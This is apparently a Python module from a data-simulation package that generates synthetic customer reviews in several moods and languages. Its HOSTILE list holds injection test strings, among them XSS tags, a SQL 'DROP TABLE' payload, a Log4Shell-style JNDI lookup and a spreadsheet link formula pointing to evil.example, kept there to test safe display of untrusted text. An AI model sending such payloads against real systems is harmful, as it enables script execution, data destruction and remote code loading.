"""What customers write: a small grammar of our own, by subject and mood.

In: the subject, the mood and the thing bought for each text. Out: the texts. Most are English, some are in
other languages, some carry emoji; a few are hostile strings such as every form on the web receives, which a
map must show as the text that they are.
"""

from __future__ import annotations

import numpy as np

from desirepath.simulate.chance import Chance, Ids, Ints
from desirepath.simulate.goods import GOODS

GLAD, SO_SO, SORRY = range(3)
_THINGS = tuple(g[3] for g in GOODS)

# subject (see aftermath) → mood → sentences; {it} is the thing bought.
_SENTENCES: tuple[tuple[tuple[str, ...], ...], ...] = (
    (  # quality
        (
            "I just wanted a {it} that lasts. This one does.",
            "Walked the coast track in a southerly and stayed dry.",
            "Bone dry after an hour of rain.",
            "The seams are taped properly, you can tell somebody cared.",
            "My third winter with the {it} would not surprise me.",
            "Light, dry, and it packs away small.",
            "Best {it} I have owned.",
            "The zip runs like butter.",
        ),
        (
            "The {it} is fine. Not more, not less.",
            "Keeps the rain out, a bit warm inside.",
            "Good fabric, the hood could be deeper.",
            "It does what it should, the colour is duller than on the photo.",
            "Decent {it} for the money.",
        ),
        (
            "The seam of the {it} opened after two weeks.",
            "Water came through at the shoulders on the first wet day.",
            "The zip broke before the first rain.",
            "I wanted a {it} that lasts. This one did not.",
            "Feels thin for what it costs.",
            "The coating peels off already.",
        ),
    ),
    (  # delivery
        (
            "Ordered on Monday, wore it on Thursday.",
            "Came a day earlier than promised.",
            "Fast delivery and a tidy parcel.",
            "The tracking page told me exactly when to be home.",
        ),
        (
            "Delivery took its time, the {it} is good.",
            "Arrived just before the promised day was over.",
            "Parcel was left with a neighbour, fine in the end.",
        ),
        (
            "Five days were promised, it took nine.",
            "The {it} came after the rain was over.",
            "Still waiting when I wrote to you, and the date just moved on.",
            "Late again. Does anybody ship to the west?",
            "The birthday was on Saturday, the parcel came on Wednesday.",
            "Tracking said 'at the depot' for six days.",
            "I planned a trip around your delivery date. My mistake.",
            "Why promise five days if nobody can keep it?",
        ),
    ),
    (  # sizing
        (
            "Fits as the size guide says.",
            "Followed the size guide and it sits perfectly.",
            "Swapped the size without any fuss.",
        ),
        (
            "Runs a little large, take one size down.",
            "Sleeves are long, otherwise a good {it}.",
            "Had to change the size once.",
        ),
        (
            "M is more like XL. Sent it back.",
            "The size guide sent me to the wrong size.",
            "Too tight over a jumper, and who wears a {it} without one?",
            "Bought two sizes to be safe, neither fits.",
        ),
    ),
    (  # paying
        (
            "Paying took three tries but they sorted it out.",
            "In the end I paid on the laptop, all good.",
        ),
        (
            "The payment page hung on my phone, worked on the laptop.",
            "Had to enter my card twice.",
        ),
        (
            "The payment page threw me out twice on my phone.",
            "Card refused three times, then it worked on the computer. Very odd.",
            "Checkout on the phone just spins and spins.",
            "I nearly gave up at the payment page.",
            "Was I charged twice? Nobody could tell me for a day.",
        ),
    ),
    (  # service
        (
            "Asked a question, had an answer before my coffee was cold.",
            "Your people on the phone know rain.",
            "A real person answered, and helped.",
            "Kind help with a silly question of mine.",
            "Problem solved in one call. Thank you.",
        ),
        (
            "Had to write twice, then it went quickly.",
            "Friendly, though it took a day.",
        ),
        (
            "Three mails until somebody read the first one.",
            "Waited two days for an answer of one line.",
            "On hold for half an hour about a {it}.",
        ),
    ),
    (  # presents
        (
            "A present for my mother, who now hopes for rain.",
            "Gift wrap was lovely.",
            "My nephew does not take the {it} off any more.",
            "Perfect present for someone who walks the dog in any weather.",
        ),
        (
            "Bought as a present, they seem pleased.",
            "The wrapping was a bit plain.",
        ),
        (
            "The price tag was still on it, and it was a present.",
            "Wrapped badly, I did it again.",
        ),
    ),
    (  # price
        (
            "Worth every cent.",
            "Got it with the coupon, a bargain.",
            "Not cheap, but cheaper than buying a {it} every year.",
        ),
        (
            "A little dear, but good.",
            "Fair price in the sale.",
        ),
        (
            "Too dear for what it is.",
            "Cheaper elsewhere a week later.",
            "Postage costs almost as much as the hat.",
        ),
    ),
)
_TAILS: tuple[tuple[str, ...], ...] = (
    ("", "", "", "", "Will buy again.", "Recommended.", "Love it!", "Thank you!", "☔❤️", "😊",
     "Bring on the rain.", "10/10"),
    ("", "", "", "", "Okay overall.", "We will see after winter.", "🙂", "Three stars from me."),
    ("", "", "", "", "Disappointed.", "Not again.", "😡", "Please fix this.", "Expected more.",
     "Would like my money back."),
)  # fmt: skip
_ELSEWHERE: tuple[tuple[str, ...], ...] = (
    (
        "Hält dicht, auch bei Dauerregen. Gerne wieder!",
        "Livraison rapide, très bonne qualité.",
        "Muy contenta con la compra, abriga y no pesa.",
        "雨天也很干爽，非常满意。",
        "Rất hài lòng, giao hàng nhanh.",
        "Bellissimo, e non passa una goccia.",
        "ممتاز، سريع وأنيق",
    ),
    (
        "Ganz in Ordnung, fällt etwas groß aus.",
        "Correct, sans plus.",
        "Está bien por el precio.",
        "还可以，颜色和照片有点不同。",
    ),
    (
        "Leider zu spät geliefert, das Fest war vorbei.",
        "La fermeture éclair est cassée au bout d'une semaine.",
        "Llegó tarde y la talla no era.",
        "等了两个星期才到，很失望。",
        "Giao hàng trễ, không ai trả lời.",
    ),
)
HOSTILE = (
    "<script>alert('rain')</script>",
    '=HYPERLINK("http://evil.example","click")',
    "'; DROP TABLE reviews; --",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "<img src=x onerror=alert(1)>",
    "+61 or -1, @SUM(A1:A9)",
    "\u202eti hctiws :desrever",
    "Ｆｕｌｌ ｗｉｄｔｈ, zero\u200bwidth, and a\ttab",
    'She said "dry, dry, dry",\nand left.',
    "&lt;b&gt;bold?&lt;/b&gt; | pipe # hash : colon ; semicolon",
)
_COMMENTS = (
    "Answer helped.",
    "Quick and clear, thanks!",
    "Took too long.",
    "I still do not know where my parcel is.",
    "Friendly, but no solution.",
    "Solved.",
)


def moods(stars: Ints) -> Ints:
    """The mood behind one to five stars."""
    return np.select([stars >= 4, stars == 3], [GLAD, SO_SO], SORRY)


def texts(
    chance: Chance, ids: Ids, subject: Ints, mood: Ints, product: Ints, what: str = "text"
) -> list[str]:
    """One text for each id: a sentence or two on the subject, and perhaps a closing word."""
    kind = chance.pick(ids, what + " kind", [0.55, 0.345, 0.08, 0.02, 0.005])
    luck = [chance.share(ids, what, turn).tolist() for turn in range(3)]
    rows = zip(kind.tolist(), subject.tolist(), mood.tolist(), product.tolist(), *luck, strict=True)
    return [_text(*row) for row in rows]


def _text(kind: int, subject: int, mood: int, product: int, first: float, second: float, third: float) -> str:
    if kind == 4:
        return _of(HOSTILE, first)
    if kind == 3:
        return _of(_ELSEWHERE[mood], first)
    parts = [_of(_SENTENCES[subject][mood], first)]
    if kind >= 1:
        more = _of(_SENTENCES[0 if subject else 6][mood], second)
        parts.append(more)
    parts.append(_of(_TAILS[mood], third))
    text = " ".join(p for p in parts if p).replace("{it}", _THINGS[product])
    return text.lower() if kind == 2 else text


def _of(choices: tuple[str, ...], luck: float) -> str:
    return choices[int(luck * len(choices))]


def comments(chance: Chance, ids: Ids, csat: Ints) -> list[str]:
    """What some write beside the rating of an answer; '' for those who write nothing."""
    writes = chance.happens(ids, "comments", 0.35).tolist()
    good = chance.share(ids, "which comment").tolist()
    out = []
    for says, score, luck in zip(writes, csat.tolist(), good, strict=True):
        pool = (
            (_COMMENTS[0], _COMMENTS[1], _COMMENTS[5])
            if score >= 4
            else (_COMMENTS[2], _COMMENTS[3], _COMMENTS[4])
        )
        out.append(_of(pool, luck) if says else "")
    return out
